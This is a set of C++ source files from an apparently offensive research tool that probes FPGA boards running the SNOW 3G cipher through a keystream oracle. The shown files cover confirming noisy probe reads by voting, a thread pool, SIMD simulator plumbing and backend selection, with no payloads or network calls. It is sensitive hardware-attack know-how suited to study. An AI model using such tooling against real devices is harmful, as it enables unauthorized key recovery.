/// stopping depth applies from the first probe.
struct AdaptiveConfig {
  /// Accept a value once the odds that every agreeing read is corrupted
  /// (and all collided on the same wrong value) are at most this bound.
  double accept_error = 1e-3;
  /// P(two independently corrupted captures show the same value).  For
  /// capture bit-flip noise the dominant corruption is a single flipped bit
  /// among the 32*words keystream bits, so two corrupted reads collide only
  /// by flipping the same bit: ~(P(single flip | corrupted))^2 / bits, about
  /// 1.2e-3 for 16-word reads at mild flip rates.
  double collision_odds = 1.2e-3;
  /// Agreement-depth floor: never accept on fewer identical reads than
  /// this, however clean the board looks.  2 keeps a lucky first read from
  /// ever being trusted alone under noise.
  unsigned min_agree = 2;
  /// Value reads spent before declaring the probe unconfirmable (kCorrupt).
  unsigned max_reads = 24;
  /// Consecutive error attempts (rejection/timeout/truncation) absorbed
  /// before settling kRejected/kDead — identical semantics to
  /// RetryPolicy::max_attempts, and deliberately conservative so a sound
  /// but noisy board is never misdeclared dead.
  unsigned max_attempts = 6;
  /// Beta-prior seed for the per-read corruption estimate: the estimator
  /// starts as if `prior_weight` reads were already seen, `prior_corrupt`
  /// of them (as a fraction) corrupted.
  double prior_corrupt = 0.5;
  double prior_weight = 8;
  /// The stopping rule evaluates its odds at p_hat plus this many standard
  /// errors of the estimate, so early acceptance (while the estimate rests
  /// mostly on the prior) errs strict and relaxes as real reads accumulate.
  double confidence_z = 1.0;

  friend bool operator==(const AdaptiveConfig&, const AdaptiveConfig&) = default;
};

/// Sequential stopping rule for a batch of logical probes.  Usage protocol
/// (driven by Attack::confirm_batch):
///
///   begin(n);                         // slots 0..n-1, no reads absorbed
///   while any slot unsettled:
///     issue reads_wanted(slot) physical reads for some unsettled slots
///     absorb(slot, read, stats) for each answer, in issue order
///   take(slot)                        // settled outcome per slot
///
/// reads_wanted is a *demand*, never padding: the minimum further reads the
/// slot needs to settle in the best case, so honest physical-run accounting
/// is preserved (no speculative lanes are ever spent).
class ProbeController {
 public:
  virtual ~ProbeController() = default;

  virtual const char* name() const = 0;
  /// The first read is final: the scheduler returns raw oracle outcomes and
  /// skips the confirmation machinery entirely (noise-free fast path).
  virtual bool single_shot() const = 0;

  /// Starts a fresh confirmation session of `n` probes.
  virtual void begin(size_t n) = 0;
  /// Absorbs one physical read for `slot` (must be unsettled).  Updates the
  /// issue-independent parts of the overhead ledger (corruptions seen,
  /// transient rejections) in `stats`.
  virtual void absorb(size_t slot, const ProbeOutcome& read, RetryStats& stats) = 0;
  virtual bool settled(size_t slot) const = 0;
  /// The settled outcome: a value, kRejected (persistent), kCorrupt
  /// (unconfirmable) or kDead.  Valid once settled(slot).
  virtual ProbeOutcome take(size_t slot) = 0;
  /// Additional physical reads the slot minimally needs (>= 1 while
  /// unsettled, 0 once settled).
  virtual unsigned reads_wanted(size_t slot) const = 0;
  /// True when the next read issued for `slot` re-tries an error — the
  /// issue-time retry-vs-vote accounting split of DESIGN.md §4f.
  virtual bool retrying(size_t slot) const = 0;
};

/// The r-repetition agreement vote of RetryPolicy, as a controller.  The
/// decision procedure is byte-identical to the original inline
/// implementation, including its one-read-at-a-time demand, so the physical
/// read ledger — and therefore every scripted-fault test built on exact
/// (seed, run-index) maps — is unchanged.
std::unique_ptr<ProbeController> make_static_controller(const RetryPolicy& policy);

/// The adaptive sequential-test controller.
std::unique_ptr<ProbeController> make_adaptive_controller(const AdaptiveConfig& config);

/// Factory keyed on kind; `retry` parameterizes the static controller,
/// `adaptive` the adaptive one.
std::unique_ptr<ProbeController> make_controller(ControllerKind kind, const RetryPolicy& retry,
                                                 const AdaptiveConfig& adaptive);

}  // namespace sbm::runtime
