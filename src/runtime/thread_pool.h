// Fixed-size worker-thread pool with nested-batch support.
//
// The pool's unit of work is a *batch*: a vector of tasks submitted and
// awaited together by one calling thread.  The caller participates in
// executing its own batch (it never just blocks while unstarted work
// exists), which makes nested `run_batch` calls from inside pool tasks
// safe: a worker that reaches an inner batch drains that batch itself even
// if every other thread is busy.  Concurrency is therefore a performance
// knob only — results and termination never depend on the thread count.
//
// Exceptions thrown by tasks are captured per task and rethrown to the
// submitting thread after the whole batch has finished; when several tasks
// throw, the lowest task index wins, so the surfaced error is the same for
// 1 and N threads.
#pragma once

#include <condition_variable>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

namespace sbm::runtime {

class ThreadPool {
 public:
  /// `threads` is the total concurrency during a batch, *including* the
  /// submitting thread: ThreadPool(1) spawns no workers and runs every
  /// batch serially in the caller; ThreadPool(8) spawns 7 workers.
  /// 0 means std::thread::hardware_concurrency().
  explicit ThreadPool(unsigned threads = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  unsigned concurrency() const { return concurrency_; }

  /// Runs every task, blocking until all are done.  The calling thread
  /// executes tasks too.  Rethrows the lowest-index task exception, if any.
  void run_batch(std::vector<std::function<void()>> tasks);

  /// Shared process-wide pool at hardware concurrency, built on first use.
  static ThreadPool& global();

 private:
  struct Batch {
    explicit Batch(std::vector<std::function<void()>> t)
        : tasks(std::move(t)), errors(tasks.size()) {}
    std::vector<std::function<void()>> tasks;
    size_t next = 0;  // first unclaimed task (guarded by pool mutex)
    size_t done = 0;  // finished tasks (guarded by pool mutex)
    std::vector<std::exception_ptr> errors;
    std::condition_variable completed;
  };

  void worker_loop();
  /// Claims and runs one task of `batch` if any is unclaimed.  `lock` is
  /// held on entry and exit, released around the task body.
  static void run_one(Batch& batch, size_t index, std::unique_lock<std::mutex>& lock);

  unsigned concurrency_;
  std::mutex mutex_;
  std::condition_variable work_available_;
  std::deque<std::shared_ptr<Batch>> queue_;
  bool stopping_ = false;
  std::vector<std::thread> workers_;
};

}  // namespace sbm::runtime
