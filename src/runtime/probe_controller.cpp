#include "runtime/probe_controller.h"

#include <algorithm>
#include <cmath>
#include <string>

#include "obs/metrics.h"

namespace sbm::runtime {

namespace {

/// Per-slot confirmation state shared by both controllers: the original
/// inline Vote struct of Attack::confirm_batch, lifted unchanged.
struct Slot {
  unsigned errors = 0;   // consecutive error attempts (reset on any value)
  unsigned reads = 0;    // value reads spent so far
  unsigned rejects = 0;  // rejected attempts seen so far
  bool last_was_error = false;
  bool settled = false;
  std::vector<std::pair<std::vector<u32>, unsigned>> tally;  // value -> votes
  ProbeOutcome out;
};

/// Error-attempt bookkeeping shared by both controllers (byte-identical to
/// the original absorb lambda's error branch): bounded consecutive-error
/// budget, with a rejection that persisted through every attempt — and never
/// saw a value read — reported as the genuine answer.
void absorb_error(Slot& v, const ProbeOutcome& r, unsigned max_attempts, RetryStats& stats) {
  v.last_was_error = true;
  if (r.error() == ProbeError::kCorrupt) ++stats.corruptions;
  if (r.error() == ProbeError::kRejected) ++v.rejects;
  if (r.error() == ProbeError::kDead || ++v.errors >= max_attempts) {
    v.settled = true;
    // A rejection that persisted through every attempt with no value read
    // in between is the genuine answer; anything else that exhausted the
    // budget means the board is gone.
    v.out = (v.reads == 0 && v.rejects > 0 && r.error() == ProbeError::kRejected)
                ? ProbeError::kRejected
                : ProbeError::kDead;
  }
}

/// Inserts a value read into the slot's tally, counting a disagreement, and
/// returns the read's updated vote count.
unsigned tally_value(Slot& v, const ProbeOutcome& r, RetryStats& stats) {
  v.errors = 0;
  v.last_was_error = false;
  ++v.reads;
  auto it = std::find_if(v.tally.begin(), v.tally.end(),
                         [&](const auto& e) { return e.first == *r; });
  if (it == v.tally.end()) {
    if (!v.tally.empty()) ++stats.corruptions;  // disagreeing read
    v.tally.emplace_back(*r, 0u);
    it = std::prev(v.tally.end());
  }
  ++it->second;
  v.out = ProbeOutcome(it->first);  // provisional; only meaningful at settle
  return it->second;
}

/// The RetryPolicy r-repetition vote, decision-for-decision identical to the
/// historical inline implementation, demanding one read at a time so the
/// physical read order (and every scripted-fault index map built on it) is
/// unchanged.
class StaticVotingController final : public ProbeController {
 public:
  explicit StaticVotingController(const RetryPolicy& policy) : policy_(policy) {}

  const char* name() const override { return "static"; }
  bool single_shot() const override { return policy_.single_shot(); }

  void begin(size_t n) override {
    slots_.clear();
    slots_.resize(n);
  }

  void absorb(size_t slot, const ProbeOutcome& r, RetryStats& stats) override {
    Slot& v = slots_[slot];
    if (r.ok()) {
      // A value read: the board is alive, so the consecutive-error count
      // resets; confirmation requires `confirm` bit-identical reads (two
      // independently corrupted captures essentially never coincide).
      const unsigned votes = tally_value(v, r, stats);
      if (votes >= policy_.confirm) {
        v.settled = true;
        stats.transient_rejections += v.rejects;
      } else if (v.reads >= policy_.max_reads) {
        // The board answers but never twice alike: unconfirmable.
        v.settled = true;
        v.out = ProbeError::kCorrupt;
      }
      return;
    }
    absorb_error(v, r, policy_.max_attempts, stats);
  }

  bool settled(size_t slot) const override { return slots_[slot].settled; }
  ProbeOutcome take(size_t slot) override { return std::move(slots_[slot].out); }
  unsigned reads_wanted(size_t slot) const override { return slots_[slot].settled ? 0 : 1; }
  bool retrying(size_t slot) const override { return slots_[slot].last_was_error; }

 private:
  RetryPolicy policy_;
  std::vector<Slot> slots_;
};

/// Sequential-test controller: accept a value with k agreeing reads as soon
/// as the posterior odds that all k are corrupted (and collided on the same
/// wrong value) drop below the configured bound, with the per-read
/// corruption rate estimated online.  All state transitions are a pure
/// function of the absorbed read sequence.
class AdaptiveController final : public ProbeController {
 public:
  explicit AdaptiveController(const AdaptiveConfig& config)
      : config_(config),
        corrupt_(config.prior_corrupt * config.prior_weight + 0.5),
        total_(config.prior_weight + 1.0) {}

  const char* name() const override { return "adaptive"; }
  bool single_shot() const override { return false; }

  void begin(size_t n) override {
    slots_.clear();
    slots_.resize(n);
  }

  void absorb(size_t slot, const ProbeOutcome& r, RetryStats& stats) override {
    Slot& v = slots_[slot];
    if (r.ok()) {
      const unsigned votes = tally_value(v, r, stats);
      if (votes >= agree_target()) {
        v.settled = true;
        stats.transient_rejections += v.rejects;
        learn(v, votes);
      } else if (v.reads >= config_.max_reads) {
        // The board answers but never agrees deeply enough: unconfirmable.
        v.settled = true;
        v.out = ProbeError::kCorrupt;
        learn(v, best_tally(v));
      }
      return;
    }
    absorb_error(v, r, config_.max_attempts, stats);
  }

  bool settled(size_t slot) const override { return slots_[slot].settled; }
  ProbeOutcome take(size_t slot) override { return std::move(slots_[slot].out); }

  unsigned reads_wanted(size_t slot) const override {
    const Slot& v = slots_[slot];
    if (v.settled) return 0;
    // After an error the next read is a retry probing whether the board is
    // alive at all — bundling more reads behind it would spend lanes on a
    // possibly-dead board.
    if (v.last_was_error) return 1;
    // Demand exactly the reads the leading value still needs to reach the
    // stopping depth: the whole bundle rides one batch chunk instead of
    // trickling through reads_wanted()==1 rounds.
    const unsigned target = agree_target();
    const unsigned best = best_tally(v);
    const unsigned want = target > best ? target - best : 1;
    const unsigned left = config_.max_reads > v.reads ? config_.max_reads - v.reads : 1;
    return std::max(1u, std::min(want, left));
  }

  bool retrying(size_t slot) const override { return slots_[slot].last_was_error; }

 private:
  /// Current corruption-rate estimate, clamped away from the degenerate
  /// endpoints (a fully-clean estimate must never unlock 1-read acceptance
  /// below min_agree; a saturated one must never demand unbounded depth).
  double p_hat() const { return std::clamp(corrupt_ / total_, 1e-6, 0.95); }

  /// Upper confidence bound on the corruption rate: the stopping rule tests
  /// against p_hat plus confidence_z standard errors, so the controller is
  /// strict while the estimate rests mostly on the prior and relaxes to the
  /// point estimate as real reads accumulate.  Accepting on an uncertain
  /// low estimate is the one mistake the test cannot recover from.
  double p_ucb() const {
    const double p = p_hat();
    const double se = std::sqrt(p * (1.0 - p) / total_);
    return std::clamp(p + config_.confidence_z * se, 1e-6, 0.95);
  }

  /// Odds that k agreeing reads are all corrupted: each read is corrupted
  /// with odds p/(1-p) against being clean, and every corrupted pair must
  /// additionally have collided on the same wrong value.
  double wrong_odds(unsigned k) const {
    const double p = p_ucb();
    return std::pow(p / (1.0 - p), static_cast<int>(k)) *
           std::pow(config_.collision_odds, static_cast<int>(k) - 1);
  }

  /// Smallest agreement depth whose wrong-accept odds meet the bound, under
  /// the current estimate.  Monotone in p_hat: a noisier board demands
  /// deeper agreement.  Never below min_agree, never above max_reads.
  unsigned agree_target() const {
    for (unsigned k = std::max(1u, config_.min_agree); k < config_.max_reads; ++k) {
      if (wrong_odds(k) <= config_.accept_error) return k;
    }
    return config_.max_reads;
  }

  static unsigned best_tally(const Slot& v) {
    unsigned best = 0;
    for (const auto& [value, votes] : v.tally) best = std::max(best, votes);
    return best;
  }

  /// Folds a settled slot's value reads into the corruption estimate: every
  /// read disagreeing with the winning value was a corrupted capture.
  /// Called only at settle time, on the scheduler's (serial) absorb thread,
  /// so the estimate trajectory is a pure function of the read sequence.
  void learn(const Slot& v, unsigned winning_votes) {
    corrupt_ += static_cast<double>(v.reads - std::min(v.reads, winning_votes));
    total_ += static_cast<double>(v.reads);
    static obs::Gauge& rate =
        obs::MetricsRegistry::global().gauge("adaptive.corruption_rate_ppm");
    static obs::Histogram& reads =
        obs::MetricsRegistry::global().histogram("adaptive.reads_per_probe");
    static obs::Histogram& depth =
        obs::MetricsRegistry::global().histogram("adaptive.agreement_depth");
    rate.set(static_cast<u64>(p_hat() * 1e6));
    reads.observe(v.reads);
    depth.observe(winning_votes);
  }

  AdaptiveConfig config_;
  double corrupt_;  // corrupted-read evidence (prior + observed), Beta-style
  double total_;    // total-read evidence
  std::vector<Slot> slots_;
};

}  // namespace

const char* controller_kind_name(ControllerKind kind) {
  return kind == ControllerKind::kAdaptive ? "adaptive" : "static";
}

std::optional<ControllerKind> parse_controller_kind(std::string_view name) {
  if (name == "static") return ControllerKind::kStatic;
  if (name == "adaptive") return ControllerKind::kAdaptive;
  return std::nullopt;
}

std::unique_ptr<ProbeController> make_static_controller(const RetryPolicy& policy) {
  return std::make_unique<StaticVotingController>(policy);
}

std::unique_ptr<ProbeController> make_adaptive_controller(const AdaptiveConfig& config) {
  return std::make_unique<AdaptiveController>(config);
}

std::unique_ptr<ProbeController> make_controller(ControllerKind kind, const RetryPolicy& retry,
                                                 const AdaptiveConfig& adaptive) {
  if (kind == ControllerKind::kAdaptive) return make_adaptive_controller(adaptive);
  return make_static_controller(retry);
}

}  // namespace sbm::runtime
