// Lane-vector type for the bit-sliced simulators.
//
// A lane vector is W consecutive u64 words holding 64*W one-bit lanes: bit
// (l & 63) of word (l >> 6) is lane l.  `u64` itself is the W=1 case — the
// portable scalar reference the wider instantiations are equivalence-tested
// against — and `lane_traits` gives generic simulator code a uniform view of
// both, so BatchSimulatorT<LV> reads exactly like the original 64-lane code.
//
// Storage is a GCC/Clang native vector (vector_size attribute): the bitwise
// operators compile directly to full-width vector instructions in whichever
// TU instantiates them — no reliance on the autovectorizer, which produces
// poor code for small fixed-trip word loops.  There are deliberately no
// intrinsics and no feature #ifdefs: every translation unit sees the same
// tokens (ODR-clean), and the AVX2/AVX-512 kernel TUs in src/simd/ compile
// them with -mavx2 / -mavx512f so the generic vector ops lower to VPAND /
// VPTERNLOGQ.  The wide instantiations LaneVec<4>/LaneVec<8> are ODR-used
// *only* inside those kernel TUs (everything else goes through the
// type-erased factories in simd/wide.h) — do not instantiate them in TUs
// compiled without the matching -m flags, or the linker may fold a scalar
// copy over the vectorized one.
//
// Per-lane accessors (get_lane/set_lane/or_lane) touch exactly one word, so
// lane-granular work — per-probe INIT patches, BRAM address gathers — costs
// the same per lane at any width.
#pragma once

#include <cstring>

#include "common/bits.h"

namespace sbm::simd {

template <unsigned W>
struct LaneVec {
  static_assert(W >= 2, "use plain u64 for the 64-lane case");
  static_assert((W & (W - 1)) == 0, "vector_size needs a power-of-two width");
  typedef u64 vec_type __attribute__((vector_size(8 * W)));
  vec_type v;
};

template <class LV>
struct lane_traits;

template <>
struct lane_traits<u64> {
  static constexpr unsigned kWords = 1;
  static constexpr unsigned kLanes = 64;
  static constexpr u64& word(u64& v, unsigned) { return v; }
  static constexpr const u64& word(const u64& v, unsigned) { return v; }
};

template <unsigned W>
struct lane_traits<LaneVec<W>> {
  static constexpr unsigned kWords = W;
  static constexpr unsigned kLanes = 64 * W;
  // Native vector subscripts are rvalues on older compilers; alias the
  // storage as words instead.  LaneVec is trivially-copyable plain storage,
  // so the cast is the supported way to address one element in place.
  static u64& word(LaneVec<W>& v, unsigned i) { return reinterpret_cast<u64*>(&v.v)[i]; }
  static const u64& word(const LaneVec<W>& v, unsigned i) {
    return reinterpret_cast<const u64*>(&v.v)[i];
  }
};

template <class LV>
inline constexpr unsigned lane_count = lane_traits<LV>::kLanes;

template <unsigned W>
inline LaneVec<W> operator&(const LaneVec<W>& a, const LaneVec<W>& b) {
  return LaneVec<W>{a.v & b.v};
}

template <unsigned W>
inline LaneVec<W> operator|(const LaneVec<W>& a, const LaneVec<W>& b) {
  return LaneVec<W>{a.v | b.v};
}

template <unsigned W>
inline LaneVec<W> operator^(const LaneVec<W>& a, const LaneVec<W>& b) {
  return LaneVec<W>{a.v ^ b.v};
}

template <unsigned W>
inline LaneVec<W> operator~(const LaneVec<W>& a) {
  return LaneVec<W>{~a.v};
}

/// (a & ~x) | (b & x): the Shannon mux step of the LUT settle loop, written
/// once so the -mavx512f kernel TU collapses it into one VPTERNLOGQ.
template <unsigned W>
inline LaneVec<W> mux(const LaneVec<W>& a, const LaneVec<W>& b, const LaneVec<W>& x) {
  return LaneVec<W>{(a.v & ~x.v) | (b.v & x.v)};
}

constexpr u64 mux(u64 a, u64 b, u64 x) { return (a & ~x) | (b & x); }

/// mux with lane-uniform table words: a and b hold the same value in every
/// lane (a shared golden truth-table entry), so they stay 8-byte scalars
/// broadcast into registers — the leaf level of the mux tree then reads 16
/// bytes per entry pair instead of 2*sizeof(LV).
template <unsigned W>
inline LaneVec<W> mux_word(u64 a, u64 b, const LaneVec<W>& x) {
  return LaneVec<W>{(a & ~x.v) | (b & x.v)};
}

constexpr u64 mux_word(u64 a, u64 b, u64 x) { return (a & ~x) | (b & x); }

template <class LV>
inline LV zero() {
  return LV{};
}

template <class LV>
inline LV ones() {
  LV r{};
  for (unsigned i = 0; i < lane_traits<LV>::kWords; ++i) lane_traits<LV>::word(r, i) = ~u64{0};
  return r;
}

template <class LV>
inline LV broadcast(bool v) {
  return v ? ones<LV>() : zero<LV>();
}

/// Replicates one 64-lane word into every word of the vector (used to widen
/// the lane-transposed golden tables, whose words are all-ones or all-zero).
template <class LV>
inline LV broadcast_word(u64 w) {
  LV r{};
  for (unsigned i = 0; i < lane_traits<LV>::kWords; ++i) lane_traits<LV>::word(r, i) = w;
  return r;
}

template <class LV>
inline bool get_lane(const LV& v, unsigned lane) {
  return ((lane_traits<LV>::word(v, lane >> 6) >> (lane & 63)) & 1) != 0;
}

template <class LV>
inline void set_lane(LV& v, unsigned lane, bool b) {
  u64& w = lane_traits<LV>::word(v, lane >> 6);
  const u64 mask = u64{1} << (lane & 63);
  w = b ? (w | mask) : (w & ~mask);
}

template <class LV>
inline void or_lane(LV& v, unsigned lane) {
  lane_traits<LV>::word(v, lane >> 6) |= u64{1} << (lane & 63);
}

}  // namespace sbm::simd
