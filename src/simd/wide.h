// Type-erased access to the 256/512-lane simulator instantiations.
//
// The wide instantiations of BatchSimulatorT / BatchLutSimulatorT /
// BatchDeviceT must only be compiled inside the kernel TUs that carry the
// matching -mavx2 / -mavx512f flags (see simd/lane_vec.h).  Everything else
// — the oracle's chunk loop, the equivalence tests — reaches them through
// the virtual interfaces below.  The factories return nullptr when the
// requested backend's kernels are not compiled into this binary; callers
// are expected to have resolved the backend first (simd/backend.h), which
// guarantees a non-null result for the active backend.
//
// The virtual-call overhead is irrelevant: every call amortizes over 64-512
// lanes of simulation work.
#pragma once

#include <memory>
#include <optional>
#include <span>
#include <vector>

#include "netlist/netlist.h"
#include "simd/backend.h"
#include "snow3g/snow3g.h"

namespace sbm::fpga {
struct System;
}
namespace sbm::mapper {
class BatchLutTape;
}

namespace sbm::simd {

/// Wide fpga::BatchDeviceT — the oracle's batch chunk executor.
class WideDevice {
 public:
  virtual ~WideDevice() = default;
  virtual unsigned lanes() const = 0;
  virtual bool configure_lane(unsigned lane, std::span<const u8> bytes) = 0;
  virtual std::vector<std::optional<std::vector<u32>>> keystream(const snow3g::Iv& iv, size_t n,
                                                                 unsigned lanes) = 0;
};

/// Wide netlist::BatchSimulatorT — for the gate-level differentials.
class WideNetSim {
 public:
  virtual ~WideNetSim() = default;
  virtual unsigned lanes() const = 0;
  virtual void set_input(netlist::NodeId input, bool value) = 0;
  virtual void set_input_lane(netlist::NodeId input, unsigned lane, bool value) = 0;
  virtual void set_input_word_lane(const netlist::Word& w, unsigned lane, u32 value) = 0;
  virtual void settle() = 0;
  virtual void clock() = 0;
  virtual void step() = 0;
  virtual bool value(netlist::NodeId id, unsigned lane) const = 0;
  virtual u32 read_word_lane(const netlist::Word& w, unsigned lane) const = 0;
  virtual void reset() = 0;
};

/// Wide mapper::BatchLutSimulatorT — for the LUT-level differentials.
class WideLutSim {
 public:
  virtual ~WideLutSim() = default;
  virtual unsigned lanes() const = 0;
  virtual void set_tables(std::span<const u64> transposed) = 0;
  virtual void set_lut_table(size_t lut_index, unsigned lane, u64 function_bits) = 0;
  virtual void set_input(netlist::NodeId input, bool value) = 0;
  virtual void set_input_lane(netlist::NodeId input, unsigned lane, bool value) = 0;
  virtual void set_input_word_lane(const netlist::Word& w, unsigned lane, u32 value) = 0;
  virtual void settle() = 0;
  virtual void clock() = 0;
  virtual void step() = 0;
  virtual bool value(netlist::NodeId id, unsigned lane) const = 0;
  virtual u32 read_word_lane(const netlist::Word& w, unsigned lane) const = 0;
  virtual void reset() = 0;
};

/// Each factory returns nullptr when `backend` is kScalar (use the concrete
/// 64-lane classes directly) or its kernels are not compiled in.
std::unique_ptr<WideDevice> make_wide_device(const fpga::System& system, Backend backend);
std::unique_ptr<WideNetSim> make_wide_net_sim(const netlist::Network& net, Backend backend);
std::unique_ptr<WideLutSim> make_wide_lut_sim(std::shared_ptr<const mapper::BatchLutTape> tape,
                                              Backend backend);

}  // namespace sbm::simd
