// Runtime-dispatched SIMD backend selection for the batch oracle.
//
// Three backends cover the bit-sliced simulators: the portable scalar u64
// reference (64 lanes), AVX2 (256 lanes) and AVX-512 (512 lanes).  A backend
// is *usable* when its kernels were compiled in (the SBM_SIMD CMake option)
// AND the host CPU reports the feature; resolution always falls back to the
// widest usable backend at or below the request, bottoming out at scalar,
// which is always usable.  Results are bit-identical across backends — the
// choice is pure wall-clock (tests/test_simd.cpp enforces this).
//
// The process-wide active backend is resolved once on first use from the
// SBM_SIMD_BACKEND environment variable ("scalar" / "avx2" / "avx512" /
// "auto", default auto = widest usable) and can be overridden by
// set_active_backend (the campaign/bench `--simd` flag).
#pragma once

#include <optional>
#include <string_view>

#include "common/bits.h"

namespace sbm::simd {

enum class Backend : u8 { kScalar = 0, kAvx2 = 1, kAvx512 = 2 };

/// Widest lane count any backend can offer; the batch-width knobs accept
/// 1..kMaxLanes and the oracle clamps to the active backend's width.
inline constexpr unsigned kMaxLanes = 512;

/// Lanes per batch chunk under `b` (64 / 256 / 512).
constexpr unsigned backend_lanes(Backend b) {
  return b == Backend::kAvx512 ? 512u : b == Backend::kAvx2 ? 256u : 64u;
}

const char* backend_name(Backend b);
std::optional<Backend> parse_backend(std::string_view name);

/// True when the backend's kernel TU was compiled into this binary.
bool compiled(Backend b);
/// True when the host CPU supports the backend's instruction set.
bool host_supports(Backend b);

/// Pure resolution rule (unit-testable without CPUID): the widest backend at
/// or below `requested` whose availability flag is set; scalar always wins
/// when nothing wider is available.
constexpr Backend resolve_backend(Backend requested, bool avx2_usable, bool avx512_usable) {
  if (requested == Backend::kAvx512 && avx512_usable) return Backend::kAvx512;
  if (requested != Backend::kScalar && avx2_usable) return Backend::kAvx2;
  return Backend::kScalar;
}

/// The "auto" rule: widest compiled-in backend the host supports.
Backend auto_backend();

/// Narrowest usable backend at or below `active` whose lane count covers
/// `lanes`.  The oracle picks this per chunk so a ragged 100-lane tail runs
/// on a 256-lane device instead of paying for 512 mostly-empty lanes;
/// full-width chunks still get the widest device.
Backend best_fit_backend(unsigned lanes, Backend active);

/// The process-wide backend the oracle batches with.  First call resolves
/// SBM_SIMD_BACKEND (unset/unparsable = auto); later calls are lock-free.
Backend active_backend();

/// Forces the active backend to the best usable backend at or below
/// `requested` and returns what was actually selected (graceful fallback on
/// hosts or builds without the requested instruction set).
Backend set_active_backend(Backend requested);

/// Scoped override for tests and per-entry bench runs.
class ScopedBackend {
 public:
  explicit ScopedBackend(Backend requested)
      : saved_(active_backend()), actual_(set_active_backend(requested)) {}
  ~ScopedBackend() { set_active_backend(saved_); }
  ScopedBackend(const ScopedBackend&) = delete;
  ScopedBackend& operator=(const ScopedBackend&) = delete;
  /// The backend actually selected (== requested unless it fell back).
  Backend actual() const { return actual_; }

 private:
  Backend saved_;
  Backend actual_;
};

}  // namespace sbm::simd
