// Bit-matrix transposes for the batch simulators' BRAM path.
//
// A BRAM lookup cannot be evaluated bit-sliced (the table is an opaque
// 32-bit function), so the simulators drop to per-lane addresses: gather 32
// address bits per lane, evaluate, scatter 32 output bits per lane.  Done
// bit-by-bit that is 64 * 64 shift/mask operations per 64-lane word; done as
// a bit-matrix transpose it is four 32x32 transposes (~150 word operations)
// per word, an order of magnitude less.  Plain portable code — the kernel
// TUs may compile it with wider -m flags, but the win here is algorithmic.
#pragma once

#include "common/bits.h"

namespace sbm::simd {

/// In-place 32x32 bit-matrix transpose: afterwards bit j of a[i] is what bit
/// i of a[j] was (row index and bit index swap; bit 0 is column 0).  The
/// recursive block-swap of Hacker's Delight 7-3, mirrored for LSB-first
/// columns: level j swaps the upper-bit halves of rows k..k+j-1 with the
/// lower-bit halves of rows k+j..k+2j-1.
inline void transpose32(u32 a[32]) {
  u32 m = 0x0000FFFFu;
  for (unsigned j = 16; j != 0; j >>= 1, m ^= m << j) {
    for (unsigned k = 0; k < 32; k = (k + j + 1) & ~j) {
      const u32 t = ((a[k] >> j) ^ a[k + j]) & m;
      a[k] ^= t << j;
      a[k + j] ^= t;
    }
  }
}

/// Gather transpose: in[i] holds input bit i across 64 lanes (bit l = lane
/// l); addr[l] receives lane l's 32-bit address (bit i = in[i] bit l).
inline void gather_addresses(const u64 in[32], u32 addr[64]) {
  u32 lo[32], hi[32];
  for (unsigned i = 0; i < 32; ++i) {
    lo[i] = static_cast<u32>(in[i]);
    hi[i] = static_cast<u32>(in[i] >> 32);
  }
  transpose32(lo);
  transpose32(hi);
  for (unsigned l = 0; l < 32; ++l) {
    addr[l] = lo[l];
    addr[32 + l] = hi[l];
  }
}

/// Scatter transpose: o[l] holds lane l's 32-bit output; out[i] receives
/// output bit i across 64 lanes (bit l = o[l] bit i).
inline void scatter_outputs(const u32 o[64], u64 out[32]) {
  u32 lo[32], hi[32];
  for (unsigned l = 0; l < 32; ++l) {
    lo[l] = o[l];
    hi[l] = o[32 + l];
  }
  transpose32(lo);
  transpose32(hi);
  for (unsigned i = 0; i < 32; ++i) {
    out[i] = static_cast<u64>(lo[i]) | (static_cast<u64>(hi[i]) << 32);
  }
}

}  // namespace sbm::simd
