#include "simd/wide.h"

#include "simd/kernels.h"

namespace sbm::simd {

std::unique_ptr<WideDevice> make_wide_device(const fpga::System& system, Backend backend) {
  switch (backend) {
#if defined(SBM_SIMD_HAS_AVX2)
    case Backend::kAvx2:
      return make_wide_device_avx2(system);
#endif
#if defined(SBM_SIMD_HAS_AVX512)
    case Backend::kAvx512:
      return make_wide_device_avx512(system);
#endif
    default:
      return nullptr;
  }
}

std::unique_ptr<WideNetSim> make_wide_net_sim(const netlist::Network& net, Backend backend) {
  switch (backend) {
#if defined(SBM_SIMD_HAS_AVX2)
    case Backend::kAvx2:
      return make_wide_net_sim_avx2(net);
#endif
#if defined(SBM_SIMD_HAS_AVX512)
    case Backend::kAvx512:
      return make_wide_net_sim_avx512(net);
#endif
    default:
      return nullptr;
  }
}

std::unique_ptr<WideLutSim> make_wide_lut_sim(std::shared_ptr<const mapper::BatchLutTape> tape,
                                              Backend backend) {
  switch (backend) {
#if defined(SBM_SIMD_HAS_AVX2)
    case Backend::kAvx2:
      return make_wide_lut_sim_avx2(std::move(tape));
#endif
#if defined(SBM_SIMD_HAS_AVX512)
    case Backend::kAvx512:
      return make_wide_lut_sim_avx512(std::move(tape));
#endif
    default:
      return nullptr;
  }
}

}  // namespace sbm::simd
