#include "simd/backend.h"

#include <atomic>
#include <cstdlib>

namespace sbm::simd {

namespace {

// -1 = not yet resolved; otherwise the Backend value.  Resolution is
// idempotent (same env, same CPUID), so a racing double-resolve is harmless.
std::atomic<int>& active_slot() {
  static std::atomic<int> slot{-1};
  return slot;
}

Backend resolve_usable(Backend requested) {
  return resolve_backend(requested,
                         compiled(Backend::kAvx2) && host_supports(Backend::kAvx2),
                         compiled(Backend::kAvx512) && host_supports(Backend::kAvx512));
}

Backend env_backend() {
  const char* env = std::getenv("SBM_SIMD_BACKEND");
  if (env == nullptr || *env == '\0') return auto_backend();
  if (const auto parsed = parse_backend(env)) return resolve_usable(*parsed);
  return auto_backend();  // unknown value (including "auto"): widest usable
}

}  // namespace

const char* backend_name(Backend b) {
  switch (b) {
    case Backend::kScalar:
      return "scalar";
    case Backend::kAvx2:
      return "avx2";
    case Backend::kAvx512:
      return "avx512";
  }
  return "scalar";
}

std::optional<Backend> parse_backend(std::string_view name) {
  if (name == "scalar" || name == "u64") return Backend::kScalar;
  if (name == "avx2") return Backend::kAvx2;
  if (name == "avx512") return Backend::kAvx512;
  return std::nullopt;
}

bool compiled(Backend b) {
  switch (b) {
    case Backend::kScalar:
      return true;
    case Backend::kAvx2:
#if defined(SBM_SIMD_HAS_AVX2)
      return true;
#else
      return false;
#endif
    case Backend::kAvx512:
#if defined(SBM_SIMD_HAS_AVX512)
